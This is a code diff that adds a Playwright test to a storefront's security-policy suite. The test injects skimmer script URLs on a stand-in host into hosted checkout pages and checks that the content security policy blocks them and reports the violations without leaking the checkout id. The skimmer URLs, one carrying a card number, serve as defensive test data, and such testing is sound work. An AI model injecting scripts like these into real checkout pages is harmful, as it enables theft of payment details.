@@ -2,6 +2,7 @@ import { expect, type Page, test } from 'playwright/test';
 import { POLICY_VIOLATIONS_MAX } from '#storefront/rules/policy-violation.ts';
 import { shopUrl } from '../helpers/browser/addresses.ts';
 import { stubExternalServices } from '../helpers/browser/external-services.ts';
+import { continueToPayment, fillAddress, getHostedCheckoutUrl } from '../helpers/browser/hosted-checkout-page.ts';
 import { getLocalPage } from '../helpers/browser/local-page.ts';
 
 /** Adds a script of another site to the page, as injected code would. The policy blocks it. */
@@ -62,4 +63,24 @@ test('PROOF-6 a store without error reporting sends nothing', async ({ page }) =
   await addScript(page, 'https://evil.example/skimmer.js');
   await page.waitForLoadState('networkidle');
   expect(sent).toEqual([]);
+});
+
+test('PROOF-6 violations on the pages of the hosted checkout reach the error reports without a script of the page', async ({
+  page,
+}) => {
+  const list = await getLocalPage('/errors');
+  const reports = async () => (await page.request.get(list)).text();
+  await page.goto(getHostedCheckoutUrl());
+  await addScript(page, 'https://evil.example/details-skimmer.js?card=4242');
+  await fillAddress(page);
+  await page.route('**/buy/assets/pay.js', (route) => route.abort());
+  await continueToPayment(page);
+  await page.waitForURL(/\/buy\/express_checkout\/[0-9a-f]+/);
+  await addScript(page, 'https://evil.example/payment-skimmer.js');
+  const id = new URL(page.url()).pathname.split('/').at(-1) ?? '';
+  await expect.poll(reports).toMatch(/script-src-elem blocked https:\/\/evil\.example\/details-skimmer\.js</);
+  await expect
+    .poll(reports)
+    .toMatch(/evil\.example\/payment-skimmer\.js[\s\S]*corvane, http:\/\/localhost:\d+\/buy\/express_checkout,/);
+  expect(await reports()).not.toContain(id);
 });
